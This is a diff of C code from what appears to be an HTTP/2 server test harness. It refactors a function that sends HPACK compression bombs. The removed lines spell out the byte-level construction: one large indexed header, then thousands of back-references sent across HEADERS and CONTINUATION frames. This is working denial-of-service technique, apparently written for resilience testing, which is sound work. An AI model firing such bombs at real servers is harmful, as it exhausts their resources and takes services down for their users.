@@ -393,41 +393,14 @@ static int attack_priority(const ts_attack_env_t *e, ts_attack_result_t *r)
 static int attack_hpack_bomb(const ts_attack_env_t *env, ts_attack_result_t *res)
 {
     enum { REFS = 12000, BOMBS = 6 };
-    static uint8_t block[3 + 4000 + 256 + REFS];
+    static uint8_t block[TS_H2RAW_BOMB_CAP(REFS)];
     if (attacker_connect(env, res) < 0)
         return -1;
     int64_t t0 = ts_now_ns();
-    size_t plen = strlen(env->path);
     for (int b = 0; b < BOMBS && !attacker.closed; b++) {
-        size_t n = 0;
-        block[n++] = 0x80 | 3; /* :method POST (static 3) */
-        block[n++] = 0x80 | 7; /* :scheme https (static 7) */
-        block[n++] = 0x04;     /* :path, literal without indexing (§6.2.2) */
-        block[n++] = (uint8_t)plen;
-        memcpy(block + n, env->path, plen);
-        n += plen;
-        if (b == 0) {
-            block[n++] = 0x40; /* literal with incremental indexing, new name */
-            block[n++] = 6;
-            memcpy(block + n, "x-bomb", 6);
-            n += 6;
-            block[n++] = 0x7f; /* 4000 = 127 + 3873 (§5.1) */
-            block[n++] = 0x80 | (3873 & 0x7f);
-            block[n++] = 3873 >> 7;
-            memset(block + n, 'x', 4000);
-            n += 4000;
-        }
-        for (int i = 0; i < REFS; i++)
-            block[n++] = 0x80 | 62;
-        size_t off = 0;
-        for (int first = 1; off < n; first = 0) {
-            size_t k = n - off > 16384 ? 16384 : n - off;
-            uint8_t flags = off + k == n ? NGHTTP2_FLAG_END_HEADERS : 0;
-            if (ts_h2raw_queue_frame(&attacker, first ? NGHTTP2_HEADERS : NGHTTP2_CONTINUATION,
-                                     flags, 2 * b + 1, block + off, k) < 0)
-                break;
-            off += k;
-        }
+        size_t n = ts_h2raw_hpack_bomb(block, env->path, b == 0, REFS);
+        if (ts_h2raw_queue_block(&attacker, 2 * b + 1, block, n, 0) < 0)
+            break;
         if (ts_h2raw_flush(&attacker) < 0)
             break;
         res->sent++;
